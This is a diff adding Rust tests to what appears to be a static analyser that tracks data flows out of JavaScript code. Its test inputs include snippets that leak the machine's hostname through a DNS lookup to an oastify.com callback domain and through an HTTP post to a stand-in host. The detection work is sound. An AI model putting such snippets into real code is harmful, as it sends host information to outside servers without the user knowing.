@@ -2103,3 +2103,32 @@ fn members_reached_through_reflection_are_resolved() {
     let f = run("const os = require('os');\nfetch('https://a.example.top/?p=' + Reflect.get(os, 'platform')());");
     assert!(f.flows.is_empty(), "{:#?}", f.flows);
 }
+
+/// A DNS name built from data with a constant domain after it is sent to that domain's server:
+/// the domain is the flow's endpoint and a request.
+#[test]
+fn a_dns_name_built_from_data_goes_to_its_domain() {
+    let f = run("const os = require('os');
+        require('dns').lookup(`${os.hostname()}.x7k2ab.oastify.com`, () => {});");
+    assert_eq!(f.flows.len(), 1, "{:#?}", f.flows);
+    assert_eq!(f.flows[0].endpoints, vec!["x7k2ab.oastify.com"]);
+    assert!(f.endpoints.iter().any(|e| e.host == "x7k2ab.oastify.com"));
+    // A name that is only data asks for the machine's own address.
+    let own = run("const os = require('os'); require('dns').lookup(os.hostname(), () => {});");
+    assert!(own.endpoints.is_empty(), "{:#?}", own.endpoints);
+}
+
+/// Passing a download on (`got.stream(url).pipe(file)`, `.then`) sends nothing, though the
+/// catalogue's `got.*` covers the path; the request itself still does.
+#[test]
+fn passing_a_download_on_sends_nothing() {
+    let f = run("const got = require('got'), fs = require('fs'), os = require('os'), path = require('path');
+        const file = fs.createWriteStream(path.join(os.homedir(), '.tool', 'bin.zip'));
+        got.stream('https://bin.example.top/tool.zip').pipe(file);");
+    assert!(f.flows.is_empty(), "{:#?}", f.flows);
+    let old = telltale_knowledge::js_api::js_api().sink("got.stream().pipe");
+    assert!(old.is_none());
+    let f = run("const got = require('got'), os = require('os');
+        got.post('https://t.example.top/e', { body: os.hostname() }).then((r) => r.body);");
+    assert_eq!(f.flows.len(), 1, "{:#?}", f.flows);
+}
